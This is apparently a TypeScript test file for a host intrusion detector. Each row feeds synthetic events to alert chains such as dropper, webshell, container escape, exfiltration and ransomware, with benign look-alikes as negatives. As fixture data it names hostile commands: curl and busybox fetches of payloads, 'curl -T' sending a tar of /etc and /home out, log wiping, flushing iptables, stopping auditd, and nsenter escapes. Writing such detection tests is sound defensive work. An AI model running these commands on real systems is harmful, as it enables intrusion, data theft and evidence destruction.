// The chains that look back for longer than half a minute, or over a whole device. Each row is what happens on a device, and whether that is one of them.
import type { EventOf, Process, SensorEvent } from "@picket/protocol/event";
import { describe, expect, test } from "vitest";
import { alertsOf, child, connects, event, exec, opens, proc } from "../testing/events.ts";

const init = proc(1, "/usr/lib/systemd/systemd");
const sshd = child(700, "/usr/sbin/sshd", init);
const session = child(701, "/usr/lib/openssh/sshd-session", sshd);
const bash = child(710, "/usr/bin/bash", session);
const cron = child(500, "/usr/sbin/cron", init);
const app = child(300, "/opt/app/server", init);
const apt = child(720, "/usr/bin/apt-get", bash);

/** With all ancestors, as a start states them. */
const from = (pid: number, exe: string, parent: Process, argv?: readonly string[], more: Partial<Process> = {}): Process =>
  child(pid, exe, parent, {
    ...(argv ? { argv: [...argv] } : {}),
    ancestors: [parent.parent, ...(parent.ancestors ?? [])].flatMap((above) => above ?? []),
    ...more,
  });
const shell = from(710, "/usr/bin/bash", session);
const of = (process: Process) => ({ ...process, ancestors: undefined }) as Process;

const writes = (atMs: number, process: Process, path: string) => event("file.create", atMs, { process: of(process), file: { path } });
const changes = (atMs: number, process: Process, path: string) => event("file.modify", atMs, { process: of(process), file: { path } });
const removes = (atMs: number, process: Process, path: string) => event("file.delete", atMs, { process: of(process), file: { path } });
const renames = (atMs: number, process: Process, path: string, to: string) =>
  event("file.rename", atMs, { process: of(process), file: { path, to } });
const accepts = (atMs: number, process: Process) =>
  event("net.accept", atMs, {
    process: of(process),
    net: { proto: "tcp", ip: "192.0.2.1", port: 80, srcIp: "198.51.100.9", srcPort: 5000 },
  });
const login = (atMs: number, ok: boolean, remoteIp = "198.51.100.66", user = "root") =>
  event("auth.login", atMs, { user, remoteIp, method: "password", ok });
const metrics = (atMs: number, pid: number, exe: string, cpu: number) => {
  const body: EventOf<"host.metrics">["body"] = {
    cpu: { busy: cpu, load1: 1 },
    memory: { totalBytes: 1, availableBytes: 1 },
    disks: [],
    interfaces: [],
    topProcesses: [{ pid, exe, cpu, rssBytes: 1 }],
  };
  return event("host.metrics", atMs, body);
};
const times = <T>(count: number, make: (at: number) => T | T[]): T[] => Array.from({ length: count }, (_, at) => make(at)).flat() as T[];
const MINUTE = 60_000;
const HOUR = 60 * MINUTE;

type Row = readonly [does: string, events: readonly SensorEvent[], isOne?: boolean];

function rows(chain: string, of: readonly Row[]): void {
  describe(chain, () => {
    test.each(of.map(([does, events, isOne = true]) => [isOne ? "one" : "none", does, events] as const))("%s: %s", (isOne, _, events) => {
      const own = alertsOf(events).filter((alert) => alert.startsWith(`picket-chain-${chain} `));
      expect(own.length).toBe(isOne === "one" ? 1 : 0);
    });
  });
}

const curl = from(800, "/usr/bin/curl", shell, ["curl", "-o", "/tmp/x", "http://198.51.100.7/x"]);
const python = from(801, "/usr/bin/python3.11", shell, ["python3", "-c", "import urllib.request"]);
const run = (pid: number, exe: string, parent: Process = shell, argv?: string[]) => from(pid, exe, parent, argv);
const fetchesX = [exec(0, curl), connects(10, of(curl), "198.51.100.7", 80), writes(20, curl, "/tmp/x")];

rows("dropper", [
  ["curl writes a file, the shell runs it", [...fetchesX, exec(5000, run(810, "/tmp/x"))]],
  ["hours later cron runs it", [...fetchesX, exec(5 * HOUR, run(810, "/tmp/x", cron))]],
  ["an interpreter runs it as a script", [...fetchesX, exec(5000, run(810, "/usr/bin/dash", shell, ["sh", "/tmp/x"]))]],
  [
    "it is moved, then run",
    [...fetchesX, renames(900, run(811, "/usr/bin/mv"), "/tmp/x", "/usr/bin/.sysd"), exec(1000, run(810, "/usr/bin/.sysd"))],
  ],
  [
    "it is copied to memory, then run",
    [
      ...fetchesX,
      writes(900, run(811, "/usr/bin/cp", shell, ["cp", "/tmp/x", "/dev/shm/k"]), "/dev/shm/k"),
      exec(1000, run(810, "/dev/shm/k")),
    ],
  ],
  [
    "the shell opens the file before curl connects",
    [
      exec(0, run(800, "/usr/bin/bash")),
      writes(10, run(800, "/usr/bin/bash"), "/tmp/y"),
      exec(20, curl),
      connects(30, of(curl), "198.51.100.7", 80),
      exec(900, run(810, "/tmp/y")),
    ],
  ],
  [
    "curl feeds base64, which writes it",
    [
      exec(0, curl),
      connects(10, of(curl), "198.51.100.7", 80),
      writes(30, run(805, "/usr/bin/base64", shell, ["base64", "-d"]), "/tmp/z"),
      exec(900, run(810, "/tmp/z")),
    ],
  ],
  [
    "a script connects, writes, and its file is run",
    [exec(0, python), connects(10, of(python), "198.51.100.7", 443), writes(20, python, "/var/tmp/m"), exec(900, run(810, "/var/tmp/m"))],
  ],
  [
    "busybox fetches",
    [writes(0, run(800, "/bin/busybox", shell, ["busybox", "wget", "http://198.51.100.7/m"]), "/tmp/m"), exec(900, run(810, "/tmp/m"))],
  ],
  ["another file is run", [...fetchesX, exec(5000, run(810, "/tmp/other"))], false],
  ["two days later", [...fetchesX, exec(49 * HOUR, run(810, "/tmp/x"))], false],
  ["the file is run, then fetched again", [exec(0, run(810, "/tmp/x")), exec(10, curl), writes(20, curl, "/tmp/x")], false],
  ["somebody who connects to nothing writes it", [writes(0, python, "/tmp/x"), exec(900, run(810, "/tmp/x"))], false],
  [
    "into a folder where programs belong",
    [writes(0, curl, "/usr/local/bin/kubectl"), exec(900, run(810, "/usr/local/bin/kubectl"))],
    false,
  ],
  [
    "apt fetches and runs its scripts",
    (() => {
      const http = from(730, "/usr/lib/apt/methods/http", apt);
      const dpkg = from(731, "/usr/bin/dpkg", apt);
      return [
        exec(0, http),
        connects(1, of(http), "198.51.100.7", 80),
        writes(2, http, "/tmp/apt.x"),
        exec(3, dpkg),
        exec(4, run(732, "/tmp/apt.x", dpkg)),
      ];
    })(),
    false,
  ],
  [
    "pip fetches with an interpreter and runs what it built",
    (() => {
      const pip = from(730, "/usr/bin/python3.11", shell, ["python3", "/usr/bin/pip", "install", "x"]);
      return [
        exec(0, pip),
        connects(1, of(pip), "198.51.100.7", 443),
        writes(2, pip, "/tmp/pip-1/setup"),
        exec(3, run(731, "/tmp/pip-1/setup", pip)),
      ];
    })(),
    false,
  ],
]);

const xmrig = run(820, "/tmp/.cache/kdevtmpfsi");
const named = run(821, "/usr/bin/python3", shell, ["python3", "worker.py", "-o", "stratum+tcp://pool.example:443"]);
rows("miner", [
  [
    "a program in a temporary folder, a pool's port, a busy core",
    [exec(0, xmrig), connects(1, of(xmrig), "198.51.100.7", 3333), metrics(MINUTE, 820, xmrig.exe, 0.97)],
  ],
  ["hours later", [exec(0, xmrig), connects(1, of(xmrig), "198.51.100.7", 3333), metrics(9 * HOUR, 820, xmrig.exe, 0.97)]],
  ["its command line names a pool", [exec(0, named), connects(1, of(named), "198.51.100.7", 443), metrics(MINUTE, 821, named.exe, 3.2)]],
  [
    "it was fetched and moved where programs belong",
    [
      ...fetchesX,
      renames(30, run(811, "/usr/bin/mv"), "/tmp/x", "/usr/sbin/netd"),
      connects(40, of(run(820, "/usr/sbin/netd")), "198.51.100.7", 14_444),
      metrics(MINUTE, 820, "/usr/sbin/netd", 0.9),
    ],
  ],
  ["not busy", [exec(0, xmrig), connects(1, of(xmrig), "198.51.100.7", 3333), metrics(MINUTE, 820, xmrig.exe, 0.3)], false],
  ["another process is busy", [connects(1, of(xmrig), "198.51.100.7", 3333), metrics(MINUTE, 822, "/usr/bin/cc1", 0.99)], false],
  ["the pid went to another program", [connects(1, of(xmrig), "198.51.100.7", 3333), metrics(MINUTE, 820, "/usr/bin/cc1", 0.99)], false],
  ["no pool", [exec(0, xmrig), connects(1, of(xmrig), "198.51.100.7", 443), metrics(MINUTE, 820, xmrig.exe, 0.97)], false],
  ["an installed service on such a port", [connects(1, of(app), "198.51.100.7", 3333), metrics(MINUTE, 300, app.exe, 0.97)], false],
]);

const nginx = child(900, "/usr/sbin/nginx", init);
const fpm = child(901, "/usr/sbin/php-fpm8.2", nginx);
const flask = child(902, "/usr/bin/python3", init, { argv: ["python3", "/srv/app/web.py"] });
const viaSh = (atMs: number, pid: number, program: string, server: Process) => {
  const sh = from(pid, "/usr/bin/dash", server, ["sh", "-c", program]);
  return [exec(atMs, sh), exec(atMs + 5, { ...sh, exe: `/usr/bin/${program}`, argv: [program] })];
};
rows("webshell", [
  ["PHP starts a shell that looks around", [...viaSh(0, 910, "id", fpm), ...viaSh(9000, 911, "uname", fpm)]],
  [
    "a page of Python's that was just asked for",
    [accepts(0, flask), ...viaSh(10, 910, "id", flask), ...viaSh(9000, 911, "netstat", flask)],
  ],
  [
    "it wrote a script before, then starts a shell",
    [writes(0, fpm, "/var/www/html/up.php"), exec(3 * HOUR, run(910, "/usr/bin/dash", fpm, ["sh", "-c", "ls"]))],
  ],
  ["one command only", viaSh(0, 910, "id", fpm), false],
  [
    "a dashboard shows load and disks",
    [accepts(0, flask), ...viaSh(10, 910, "uptime", flask), ...viaSh(900, 911, "df", flask), ...viaSh(1900, 912, "ip", flask)],
    false,
  ],
  ["PHP does", [...viaSh(10, 910, "ps", fpm), ...viaSh(900, 911, "df", fpm)]],
  [
    "a shell runs the init script of a web server",
    viaSh(0, 910, "id", run(905, "/usr/bin/dash", bash, ["sh", "/etc/init.d/nginx"])).concat(
      viaSh(900, 911, "uname", run(905, "/usr/bin/dash", bash, ["sh", "/etc/init.d/nginx"])),
    ),
    false,
  ],
  ["the same command again", [...viaSh(0, 910, "df", fpm), ...viaSh(9000, 911, "df", fpm)], false],
  [
    "pictures are converted",
    [...viaSh(0, 910, "convert", fpm), ...viaSh(900, 911, "gs", fpm), ...viaSh(1900, 912, "exiftool", fpm)],
    false,
  ],
  ["two minutes apart", [...viaSh(0, 910, "id", fpm), ...viaSh(2 * MINUTE, 911, "uname", fpm)], false],
  ["a program of Python's that serves nobody", [...viaSh(10, 910, "id", flask), ...viaSh(9000, 911, "netstat", flask)], false],
  [
    "it writes a picture, then starts a shell",
    [writes(0, fpm, "/var/www/html/up.png"), exec(9000, run(910, "/usr/bin/dash", fpm, ["sh", "-c", "ls"]))],
    false,
  ],
  ["somebody at a terminal", [...viaSh(0, 910, "id", bash), ...viaSh(900, 911, "uname", bash)], false],
  [
    "what a page does all day falls silent",
    times(12, (at) =>
      at < 4 ? [] : [...viaSh(at * HOUR, 1000 + 2 * at, "df", fpm), ...viaSh(at * HOUR + 9, 1001 + 2 * at, "uptime", fpm)],
    ).slice(-4),
    true,
  ],
]);

const dropsCron = writes(0, run(830, "/usr/bin/tee", shell, ["tee", "/etc/cron.d/sys"]), "/etc/cron.d/sys");
const agent = child(840, "/usr/local/bin/sysd", init);
const beats = (everyMs: number, count: number, process: Process = agent, ip = "203.0.113.5", jitter = 0) =>
  times(count, (at) => connects(MINUTE + at * everyMs + (at % 2) * jitter, of(process), ip, 443));
rows("persistence-beacon", [
  ["a cron entry, then a call each 30 s", [dropsCron, ...beats(30_000, 5)]],
  ["with some jitter", [dropsCron, ...beats(60_000, 5, agent, "203.0.113.5", 5000)]],
  [
    "a script that cron starts for each call",
    [
      dropsCron,
      ...times(5, (at) =>
        connects(MINUTE * (1 + at), child(850 + at, "/usr/bin/python3", cron, { argv: ["python3", "/opt/.u.py"] }), "203.0.113.5", 443),
      ),
    ],
  ],
  [
    "a key for root, hours before",
    [changes(0, shell, "/root/.ssh/authorized_keys"), ...times(5, (at) => connects(9 * HOUR + at * 20_000, of(agent), "203.0.113.5", 443))],
  ],
  ["nothing was written", beats(30_000, 5), false],
  ["it was written after the calls", [...beats(30_000, 5), writes(10 * MINUTE, run(830, "/usr/bin/tee"), "/etc/cron.d/sys")], false],
  [
    "it was written between the calls, which go on",
    [...beats(30_000, 12), writes(3 * MINUTE, run(830, "/usr/bin/tee"), "/etc/cron.d/sys")].toSorted((a, b) => a.timeMs - b.timeMs),
    false,
  ],
  ["three calls", [dropsCron, ...beats(30_000, 3)], false],
  [
    "at no regular times",
    [dropsCron, ...[1, 2, 9, 11, 30, 36, 37].map((s) => connects(MINUTE + s * 10_000, of(agent), "203.0.113.5", 443))],
    false,
  ],
  ["a page load: many at once", [dropsCron, ...beats(50, 30)], false],
  [
    "where it calls all day",
    [
      ...times(60, (at) => connects(at * 7 * MINUTE, of(agent), "203.0.113.5", 443)),
      writes(8 * HOUR, run(830, "/usr/bin/tee"), "/etc/cron.d/x"),
      ...times(5, (at) => connects(9 * HOUR + at * 30_000, of(agent), "203.0.113.5", 443)),
    ],
    false,
  ],
  [
    "a package installs its service",
    [writes(0, from(731, "/usr/bin/dpkg", apt), "/usr/lib/systemd/system/x.service"), ...beats(30_000, 5)],
    false,
  ],
  [
    "systemctl enable",
    [writes(0, run(831, "/usr/bin/systemctl"), "/etc/systemd/system/multi-user.target.wants/x.service"), ...beats(30_000, 5)],
    false,
  ],
  ["somebody at an editor", [writes(0, run(831, "/usr/bin/vim.basic"), "/etc/systemd/system/x.service"), ...beats(30_000, 5)], false],
]);

const refusals = (count: number, everyMs = 3000, ip?: string) =>
  times(count, (at) => login(at * everyMs, false, ip, at % 2 ? "root" : "pi"));
rows("brute-force", [
  ["ten refused, one accepted, a shell", [...refusals(10), login(40_000, true), exec(41_000, shell)]],
  ["the login comes hours later", [...refusals(10), login(9 * HOUR, true), exec(9 * HOUR + 1000, shell)]],
  ["nobody got in", [...refusals(30), exec(95_000, shell)], false],
  ["seven refused", [...refusals(7), login(40_000, true), exec(41_000, shell)], false],
  ["ten over ten minutes", [...refusals(10, MINUTE), login(11 * MINUTE, true), exec(11 * MINUTE + 1000, shell)], false],
  ["another address got in", [...refusals(10), login(40_000, true, "192.0.2.9"), exec(41_000, shell)], false],
  ["two minutes later somebody else logs in", [...refusals(10), login(40_000, true), exec(160_000, shell)], false],
  ["sshd starts itself again", [...refusals(10), login(40_000, true), exec(41_000, session)], false],
  ["cron starts something then", [...refusals(10), login(40_000, true), exec(41_000, run(860, "/usr/bin/php", cron))], false],
]);

const rm = run(870, "/usr/bin/rm", shell, ["rm", "-f", "/var/log/wtmp"]);
rows("log-wiping", [
  ["somebody who is logged in removes wtmp", [exec(0, rm), removes(5, rm, "/var/log/wtmp")]],
  ["rewrites auth.log", [exec(0, shell), changes(5, shell, "/var/log/auth.log")]],
  ["moves it away", [exec(0, rm), renames(5, rm, "/var/log/auth.log", "/tmp/a")]],
  ["removes root's history", [exec(0, rm), removes(5, rm, "/root/.bash_history")]],
  ["the shell writes its own history", [exec(0, shell), changes(5, shell, "/root/.bash_history")], false],
  ["a log of some program", [exec(0, rm), removes(5, rm, "/var/log/app/app.log")], false],
  ["an old log", [exec(0, rm), removes(5, rm, "/var/log/auth.log.4.gz")], false],
  [
    "logrotate, run by hand",
    (() => {
      const rotate = run(871, "/usr/sbin/logrotate");
      return [exec(0, rotate), renames(5, rotate, "/var/log/auth.log", "/var/log/auth.log.1")];
    })(),
    false,
  ],
  ["sshd notes a login", [changes(0, session, "/var/log/wtmp")], false],
  [
    "a script of cron's",
    (() => {
      const script = run(872, "/usr/bin/truncate", cron);
      return [exec(0, script), changes(5, script, "/var/log/syslog")];
    })(),
    false,
  ],
]);

const ssh = (pid: number, host: number, parent: Process = shell) => run(pid, "/usr/bin/ssh", parent, ["ssh", `root@192.0.2.${host}`]);
const sshTo = (atMs: number, host: number, parent: Process = shell) => [
  exec(atMs, ssh(2000 + host, host, parent)),
  connects(atMs + 10, of(ssh(2000 + host, host, parent)), `192.0.2.${host}`, 22),
];
const cat = run(880, "/usr/bin/cat", shell, ["cat", "/home/ana/.ssh/id_rsa"]);
rows("lateral-ssh", [
  ["a key is read, then ssh started", [exec(0, shell), opens(10, of(cat), "/home/ana/.ssh/id_rsa"), exec(60_000, ssh(881, 9))]],
  ["from a login on to five others", [exec(0, shell), ...times(5, (at) => sshTo(1000 + at * 5000, at + 1))]],
  ["ssh reads its own key", [exec(0, ssh(881, 9)), opens(5, of(ssh(881, 9)), "/home/ana/.ssh/id_rsa"), exec(9000, ssh(882, 8))], false],
  ["on to four", [exec(0, shell), ...times(4, (at) => sshTo(1000 + at * 5000, at + 1))], false],
  ["five times to one", [exec(0, shell), ...times(5, (at) => sshTo(1000 + at * 5000, 7))], false],
  ["five in an hour", [exec(0, shell), ...times(5, (at) => sshTo(at * 12 * MINUTE, at + 1))], false],
  [
    "a script of cron's copies to five",
    (() => {
      const script = run(883, "/usr/bin/bash", cron, ["bash", "/opt/sync.sh"]);
      return [exec(0, script), ...times(5, (at) => sshTo(1000 + at * 5000, at + 1, script))];
    })(),
    false,
  ],
]);

const container = { container: { id: "c0ffee", runtime: "docker" } };
const shim = child(600, "/usr/bin/containerd-shim-runc-v2", init);
const inside = from(601, "/bin/sh", shim, ["sh"], container);
const mounts = (atMs: number, process: Process, source: string, target: string, fsType: string) =>
  event("kernel.mount", atMs, { process: of(process), source, target, fsType });
const byKernel = proc(650, "/tmp/cmd", { ppid: 2, parent: { pid: 2, startTicks: 1, exe: "kthreadd" } });
const enters = from(602, "/usr/bin/nsenter", inside, ["nsenter", "--target", "1", "--mount", "bash"], container);
rows("container-escape", [
  ["nsenter into process 1, then a shell on the host", [exec(0, inside), exec(100, enters), exec(200, from(603, "/usr/bin/bash", enters))]],
  [
    "core_pattern is written, then the kernel starts something",
    [changes(0, inside, "/proc/sys/kernel/core_pattern"), exec(5000, byKernel)],
  ],
  [
    "release_agent too",
    [mounts(0, inside, "cgroup", "/tmp/cg", "cgroup"), changes(10, inside, "/tmp/cg/release_agent"), exec(5000, byKernel)],
  ],
  ["the host's disk is mounted", [mounts(0, inside, "/dev/sda1", "/mnt", "ext4"), exec(3000, from(604, "/usr/bin/bash", inside))]],
  [
    "nothing starts outside",
    [exec(0, inside), exec(100, enters), exec(200, from(603, "/usr/bin/bash", enters, ["bash"], container))],
    false,
  ],
  [
    "the host writes core_pattern",
    [changes(0, child(610, "/usr/lib/systemd/systemd-sysctl", init), "/proc/sys/kernel/core_pattern"), exec(900, byKernel)],
    false,
  ],
  [
    "runc sets a container up",
    [
      mounts(0, from(605, "/usr/bin/runc", shim, ["runc", "init"], container), "/dev/sda1", "/etc/hosts", "ext4"),
      exec(10, from(606, "/usr/bin/bash", from(605, "/usr/bin/runc", shim))),
    ],
    false,
  ],
  ["a container mounts memory", [mounts(0, inside, "tmpfs", "/tmp", "tmpfs"), exec(10, from(604, "/usr/bin/bash", inside))], false],
]);

const bot = run(890, "/tmp/mips");
const scan = (process: Process, hosts: number, port: number, everyMs = 100) =>
  times(hosts, (at) => connects(1000 + at * everyMs, of(process), `203.0.113.${at + 1}`, port));
rows("iot-botnet", [
  [
    "fetched by busybox, it tries telnet everywhere",
    [
      writes(0, run(800, "/bin/busybox", shell, ["busybox", "tftp", "-g", "-r", "mips", "198.51.100.7"]), "/tmp/mips"),
      exec(500, bot),
      ...scan(bot, 12, 23),
    ],
  ],
  ["from a temporary folder, ssh", [exec(500, bot), ...scan(bot, 12, 22)]],
  ["it has removed itself and runs on", [exec(0, bot), removes(10, bot, "/tmp/mips"), ...scan(bot, 12, 2323)]],
  ["nine hosts", [exec(500, bot), ...scan(bot, 9, 23)], false],
  ["one host, over and over", [exec(500, bot), ...times(20, (at) => connects(1000 + at, of(bot), "203.0.113.9", 23))], false],
  ["twelve in half an hour", [exec(500, bot), ...scan(bot, 12, 23, 150_000)], false],
  ["the web", [exec(500, bot), ...scan(bot, 12, 443)], false],
  ["an installed tool that backs up switches", scan(app, 30, 22), false],
]);

const sudo = run(895, "/usr/bin/sudo", shell);
const exploit = from(896, "/home/app/x", app);
const becomesRoot = (atMs: number, process: Process) => event("process.setuid", atMs, { process: of(process), from: 1000, to: 0 });
rows("escalation-persistence", [
  [
    "a program becomes root and writes a unit",
    [exec(0, exploit), becomesRoot(10, exploit), writes(900, exploit, "/etc/systemd/system/x.service")],
  ],
  [
    "its shell adds a key for root",
    [
      becomesRoot(10, exploit),
      exec(20, from(897, "/usr/bin/bash", exploit)),
      changes(60_000, from(897, "/usr/bin/bash", exploit), "/root/.ssh/authorized_keys"),
    ],
  ],
  ["sudo does", [becomesRoot(10, sudo), writes(900, sudo, "/etc/systemd/system/x.service")], false],
  ["the file comes first", [writes(0, exploit, "/etc/cron.d/x"), becomesRoot(10, exploit)], false],
  ["another file", [becomesRoot(10, exploit), writes(900, exploit, "/etc/app/x.conf")], false],
  ["five minutes later", [becomesRoot(10, exploit), writes(5 * MINUTE, exploit, "/etc/cron.d/x")], false],
  ["somebody else writes", [becomesRoot(10, exploit), writes(900, apt, "/etc/cron.d/x")], false],
]);

const tar = run(1100, "/usr/bin/tar", shell, ["tar", "czf", "/tmp/d.tgz", "/etc", "/home"]);
const sends = run(1101, "/usr/bin/curl", shell, ["curl", "-T", "/tmp/d.tgz", "https://files.example/"]);
const posts = run(1102, "/usr/bin/curl", shell, ["curl", "-F", "f=@/tmp/d.tgz", "https://files.example/"]);
const sent = (atMs: number, by: Process) => [exec(atMs, by), connects(atMs + 20, of(by), "203.0.113.80", 443)];
rows("exfiltration", [
  ["tar over /etc into /tmp, curl sends it", [exec(0, tar), ...sent(60_000, sends)]],
  ["as a form, hours later", [exec(0, tar), ...sent(5 * HOUR, posts)]],
  ["scp takes it away", [exec(0, tar), ...sent(900, run(1103, "/usr/bin/scp", shell, ["scp", "/tmp/d.tgz", "a@b:/x"]))]],
  ["it is never sent", [exec(0, tar)], false],
  [
    "another file is sent",
    [exec(0, tar), ...sent(900, run(1104, "/usr/bin/curl", shell, ["curl", "-T", "/tmp/other", "https://files.example/"]))],
    false,
  ],
  ["a copy of a build", [exec(0, run(1100, "/usr/bin/tar", shell, ["tar", "czf", "/tmp/d.tgz", "dist"])), ...sent(900, sends)], false],
  [
    "a backup where backups lie",
    [
      exec(0, run(1100, "/usr/bin/tar", shell, ["tar", "czf", "/var/backups/d.tgz", "/etc"])),
      ...sent(900, run(1105, "/usr/bin/scp", shell, ["scp", "/var/backups/d.tgz", "nas:/b"])),
    ],
    false,
  ],
  [
    "to where it goes every night",
    [
      ...times(8, (at) => connects(at * HOUR, of(run(1101, "/usr/bin/scp")), "203.0.113.80", 443)),
      exec(9 * HOUR, tar),
      ...sent(9 * HOUR + 900, sends),
    ],
    false,
  ],
]);

const locker = run(1200, "/opt/up/lockd");
const locks = (count: number, suffix: string, process: Process = locker) =>
  times(count, (at) => renames(1000 + at * 20, process, `/srv/data/${at}.pdf`, `/srv/data/${at}.pdf.${suffix}`));
rows("ransomware", [
  ["thirty files with one new suffix", locks(30, "l0cked")],
  ["ten, and a note", [writes(0, locker, "/srv/data/HOW_TO_DECRYPT.txt"), ...locks(11, "akira")]],
  [
    "written anew, the old ones removed",
    times(30, (at) => [writes(at * 20, locker, `/srv/${at}.doc.enc9`), removes(at * 20 + 5, locker, `/srv/${at}.doc`)]),
  ],
  ["twelve, no note", locks(12, "l0cked"), false],
  ["compressed", locks(40, "gz"), false],
  ["kept as they were", locks(40, "bak"), false],
  ["each in its own way", times(40, (at) => renames(at, locker, `/srv/${at}`, `/srv/${at}.v${at}x`)), false],
  ["a tool that renames the photographs", times(40, (at) => renames(at, locker, `/srv/IMG_${at}.jpg`, `/srv/2026-${at}.jpg`)), false],
  ["over a day", times(40, (at) => renames(at * 30 * MINUTE, locker, `/srv/${at}.pdf`, `/srv/${at}.pdf.l0cked`)), false],
  [
    "SQLite's own files come and go",
    times(30, (at) => [writes(at * 20, locker, `/srv/${at}.db-shm`), removes(at * 20 + 5, locker, `/srv/${at}.db`)]),
    false,
  ],
  ["a package tool", locks(40, "l0cked", apt), false],
]);

const stops = run(1300, "/usr/bin/systemctl", shell, ["systemctl", "stop", "auditd"]);
rows("impairment-payload", [
  [
    "an hour before, by somebody else; nobody fetched it",
    [exec(0, stops), exec(30 * MINUTE, run(1301, "/tmp/m1", from(1310, "/usr/bin/bash", cron)))],
    false,
  ],
  ["a program of a checkout", [exec(0, stops), exec(900, run(1301, "/work/x/node_modules/.bin/vitest"))], false],
  ["auditd is stopped, a program in /tmp run", [exec(0, stops), exec(30_000, run(1301, "/tmp/payload"))]],
  [
    "the firewall is emptied, something fetched is run",
    [
      ...fetchesX,
      renames(30, run(811, "/usr/bin/mv"), "/tmp/x", "/usr/bin/netd"),
      exec(100, run(1302, "/usr/sbin/iptables", shell, ["iptables", "-F"])),
      exec(900, run(1303, "/usr/bin/netd")),
    ],
  ],
  ["a program that belongs there", [exec(0, stops), exec(900, run(1301, "/usr/bin/less"))], false],
  [
    "another service",
    [exec(0, run(1300, "/usr/bin/systemctl", shell, ["systemctl", "stop", "nginx"])), exec(900, run(1301, "/tmp/payload"))],
    false,
  ],
  [
    "it is asked how it is",
    [exec(0, run(1300, "/usr/bin/systemctl", shell, ["systemctl", "status", "auditd"])), exec(900, run(1301, "/tmp/payload"))],
    false,
  ],
  [
    "a package is upgraded",
    [
      exec(0, from(1300, "/usr/bin/systemctl", from(731, "/usr/bin/dpkg", apt), ["systemctl", "stop", "rsyslog"])),
      exec(900, run(1301, "/tmp/payload")),
    ],
    false,
  ],
  ["two hours later", [exec(0, stops), exec(2 * HOUR, run(1301, "/tmp/payload"))], false],
]);

const memory = run(1400, "/memfd:x (deleted)");
const gone = run(1401, "/tmp/.d/agent");
rows("fileless", [
  ["out of memory, then connects", [exec(0, memory), connects(900, of(memory), "203.0.113.8", 443)]],
  ["removes itself, then connects", [exec(0, gone), removes(10, gone, "/tmp/.d/agent"), connects(900, of(gone), "203.0.113.8", 443)]],
  ["connects, then removes itself", [exec(0, gone), connects(900, of(gone), "203.0.113.8", 443), removes(1000, gone, "/tmp/.d/agent")]],
  ["connects to itself", [exec(0, memory), connects(900, of(memory), "127.0.0.1", 443)], false],
  ["connects to nothing", [exec(0, memory)], false],
  ["another process connects", [exec(0, memory), connects(900, of(app), "203.0.113.8", 443)], false],
  [
    "runc makes a copy of itself",
    [
      exec(0, run(1402, "/memfd:runc_cloned:/proc/self/exe (deleted)")),
      connects(900, of(run(1402, "/memfd:runc_cloned:/proc/self/exe (deleted)")), "203.0.113.8", 443),
    ],
    false,
  ],
  ["it stays where it is", [exec(0, gone), connects(900, of(gone), "203.0.113.8", 443)], false],
  [
    "an installed program is upgraded while it runs",
    [exec(0, app), removes(10, app, "/opt/app/server"), connects(900, of(app), "203.0.113.8", 443)],
    false,
  ],
]);
